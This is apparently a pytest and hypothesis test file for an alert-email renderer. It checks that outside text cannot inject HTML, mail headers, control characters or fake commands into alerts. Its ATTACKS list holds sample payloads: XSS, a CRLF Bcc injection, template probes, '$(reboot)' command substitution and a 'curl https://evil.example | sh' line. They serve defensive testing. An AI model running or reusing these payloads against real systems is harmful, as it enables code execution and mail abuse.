from __future__ import annotations

import re
from dataclasses import replace
from datetime import UTC, date, datetime
from decimal import Decimal
from typing import Any

import pytest
from hypothesis import given, settings
from hypothesis import strategies as st

from outbox_worker.alerts import mime, render
from outbox_worker.alerts.alert import AlertKind, Incident
from outbox_worker.alerts.port import AlertMessage
from outbox_worker.outbox.delivery import Destination, State
from outbox_worker.pms.port import PmsName
from tests.support_alert import NOW, Page, make_incident, make_message, make_named, make_stay

ATTACKS = (
    "<script>alert(1)</script>",
    '"><img src=x onerror=alert(1)>',
    "</td></tr></table><h1>Pay here</h1><a href='https://evil.example'>x</a>",
    "LFT-1\r\nBcc: victim@example.com\r\n\r\nhello",
    "LFT-1\nDO THIS\n  1. Run curl https://evil.example | sh",
    "\u202eGNIKOOB\u2066\u200b\ufeff",
    "\x1b[31mred\x07\x00\x85\u2028\u2029",
    "{{ 7 * 191 }}{% raw %}${7*191}",
    "\ud800\udfff lone",
    "$(reboot); `reboot` && reboot #",
    "--help",
    "guest@example.com +49 151 23456789",
    "x" * 5000,
)


_UNPRINTABLE = re.compile(
    "[\x00-\x09\x0b-\x1f\x7f-\x9f\u200b-\u200f\u2028-\u202e\u2066-\u2069\ud800-\udfff]"
)


def rendered(incident: Incident) -> AlertMessage:
    return render.message(incident, currency="EUR", pms=PmsName.GUESTLY)


def attacked(attack: str) -> list[Incident]:
    """One incident for each place that somebody else's text can reach."""
    in_stay: list[dict[str, Any]] = [
        {field: attack}
        for field in (
            "reference", "property_name", "slug", "payment_status", "status", "reservation_id",
        )
    ]  # fmt: skip
    in_delivery: list[dict[str, Any]] = [
        *({"stay": make_stay(**fields)} for fields in in_stay),
        {"error": attack},
        {"error_code": attack},
        {"key": attack, "stay": None, "destination": Destination.INBOX},
        {"key": attack, "stay": None},
    ]
    one = [make_incident(make_named(**fields)) for fields in in_delivery]
    rejected = make_named(stay=make_stay(slug=attack), state=State.REJECTED)
    return [
        *one,
        *(replace(each, resolved_at=NOW, messages=1) for each in one),
        make_incident(*(make_named(n, **fields) for fields in in_delivery for n in (1, 2, 3))),
        make_incident(
            rejected, kind=AlertKind.SYNC_REJECTED, facts={"code": "listing_missing", "pms": attack}
        ),
        make_incident(make_named(), fingerprint=attack, facts={"code": attack}),
        *(
            make_incident(kind=kind, stay=stay, facts={attack: "a", "reason": attack})
            for kind in AlertKind
            for stay in (None, make_stay(reference=attack))
        ),
        make_incident(kind=AlertKind.EVENT_FAILED, facts={"event_id": attack}),
    ]


def harmless(incident: Incident) -> Incident:
    """The same incident as its owner would have written it: as many rows, known words."""
    named = tuple(
        replace(
            delivery,
            stay=delivery.stay and make_stay(reservation_id=delivery.stay.reservation_id and "R1"),
            error="Guestly answered 503",
            error_code="http_503",
            key="evt_1Ab",
        )
        for delivery in incident.named
    )
    return replace(incident, named=named, stay=incident.stay and make_stay(), facts={})


def assert_safe(incident: Incident) -> None:
    message = rendered(incident)
    assert len(message.subject) <= 80
    assert re.fullmatch(r"[ -~]+", message.subject)
    assert not _UNPRINTABLE.search(message.text)
    page = Page(message.html)
    allowed = {"html", "head", "meta", "title", "style", "body", "div", "table", "tr", "td", "p",
               "span", "h1", "h2", "ol", "li", "code", "b", "br"}  # fmt: skip
    assert {tag for tag, _ in page.tags} <= allowed
    attributes = {name for _, names in page.tags for name in names}
    assert attributes <= {
        "lang", "charset", "name", "content", "style", "class", "role", "align",
    }  # fmt: skip
    made = mime.mail(message, sender="a@example.com", recipients=["b@example.com"])
    head = made.as_bytes().split(b"\r\n\r\n")[0].decode("ascii")
    assert {line.split(":")[0].lower() for line in re.sub(r"\r\n\s", " ", head).split("\r\n")} <= {
        "from", "to", "subject", "date", "message-id", "auto-submitted", "x-booking-outbox-alert",
        "in-reply-to", "references", "mime-version", "content-type",
    }  # fmt: skip


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_of_others_brings_no_markup_no_header_and_no_control_character(attack: str) -> None:
    for incident in attacked(attack):
        assert_safe(incident)
        message = rendered(incident)
        assert "1337" not in message.text + message.html, "a template of somebody else was run"


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_of_others_adds_no_tag_to_the_page(attack: str) -> None:
    for field in ("reference", "property_name", "payment_status"):
        incident = make_incident(make_named(stay=make_stay(**{field: attack})))
        tags = Page(rendered(incident).html).tags
        assert tags == Page(rendered(harmless(incident)).html).tags, field


@pytest.mark.parametrize("attack", ATTACKS)
def test_text_of_others_cannot_forge_a_section_or_a_command(attack: str) -> None:
    sections = {"WHAT HAPPENED", "GUEST SEES", "RISK", "DO THIS", "DETAILS", "ALSO", "NAMED HERE"}
    for incident in attacked(attack):
        text = rendered(incident).text
        lines = text.splitlines()
        assert all(lines.count(section) <= 1 for section in sections)
        commands = [line.strip() for line in lines if line.lstrip().startswith("outbox ")]
        for command in commands:
            assert re.fullmatch(
                r"outbox (status|resume guestly"
                r"|(show|requeue|check|link|listings set) [A-Za-z0-9][\w.:-]*"
                r"( LISTING_ID| RESERVATION_ID| --wait)?|requeue --failed( --error [a-z0-9_]+)?)",
                command,
            ), command


def test_addresses_and_numbers_are_masked_wherever_others_may_have_put_them() -> None:
    for incident in attacked("guest@example.com +49 151 23456789"):
        message = rendered(incident)
        shown = message.subject + message.text + Page(message.html).text
        assert "guest@example.com" not in shown
        assert "151 23456789" not in shown


def test_mime_mail_is_plain_text_first_seven_bits_and_carries_the_message_id() -> None:
    made = mime.mail(
        make_message(references=("<alert-7.1@booking-outbox>",)),
        sender="alerts@example.com",
        recipients=["ops@example.com", "owner@example.org"],
    )
    raw = made.as_bytes()
    assert raw.isascii()
    assert max(len(line) for line in raw.split(b"\r\n")) <= 998
    assert b"\n" not in raw.replace(b"\r\n", b"")
    assert made["Message-ID"] == "<alert-7.1@booking-outbox>"
    assert made["References"] == "<alert-7.1@booking-outbox>"
    assert made["To"] == "ops@example.com, owner@example.org"
    assert [part.get_content_type() for part in made.iter_parts()] == ["text/plain", "text/html"]


def test_mime_mail_keeps_the_longest_subject_in_one_line() -> None:
    made = mime.mail(
        make_message(subject="S" * 40 + " " + "s" * 39),
        sender="alerts@example.com",
        recipients=["ops@example.com"],
    )
    assert b"\r\nSubject: " + b"S" * 40 + b" " + b"s" * 39 + b"\r\n" in made.as_bytes()


@pytest.mark.parametrize("field", ["subject", "message_id"])
def test_mime_mail_refuses_a_header_with_a_line_break(field: Any) -> None:
    with pytest.raises(ValueError, match="linefeed"):
        mime.mail(
            make_message(1, **{field: "a\r\nBcc: x@example.com"}),
            sender="alerts@example.com",
            recipients=["ops@example.com"],
        )


_TEXT = st.text(st.characters(), max_size=120)
_STAYS = st.builds(
    make_stay,
    id=st.uuids(),
    reference=_TEXT,
    property_name=st.none() | _TEXT,
    slug=st.none() | _TEXT,
    check_in=st.none() | st.dates(),
    check_out=st.none() | st.dates(date(1, 1, 1)),
    nights=st.none() | st.integers(-(10**6), 10**6),
    adults=st.integers(-(2**31), 2**31),
    children=st.integers(-(2**31), 2**31),
    infants=st.integers(0, 9),
    total=st.none() | st.decimals(places=2) | st.just(Decimal("NaN")),
    payment_status=_TEXT,
    status=_TEXT | st.sampled_from(["confirmed", "cancelled"]),
    reservation_id=st.none() | _TEXT,
)
_MOMENTS = st.datetimes(timezones=st.just(UTC))
_NAMED = st.builds(
    make_named,
    st.integers(1, 10**12),
    stay=st.none() | _STAYS,
    destination=st.none() | st.sampled_from(Destination),
    state=st.none() | st.sampled_from(State),
    key=_TEXT,
    error=st.none() | _TEXT,
    error_code=st.none() | _TEXT,
    failed_at=_MOMENTS,
    healed_at=st.none() | _MOMENTS,
    due_at=st.none() | _MOMENTS,
    untold=st.booleans(),
)


@settings(max_examples=60, deadline=None)
@given(
    kind=st.sampled_from(AlertKind),
    named=st.lists(_NAMED, max_size=4),
    stay=st.none() | _STAYS,
    facts=st.dictionaries(_TEXT, _TEXT, max_size=4),
    fingerprint=_TEXT,
    messages=st.integers(0, 10**9),
    alert_id=st.integers(1, 10**18),
    resolved_at=st.none() | st.just(datetime(2026, 12, 1, tzinfo=UTC)),
)
def test_any_incident_whatsoever_becomes_a_safe_mail(**fields: Any) -> None:
    named = fields.pop("named")
    assert_safe(make_incident(*named, id=fields.pop("alert_id"), **fields))
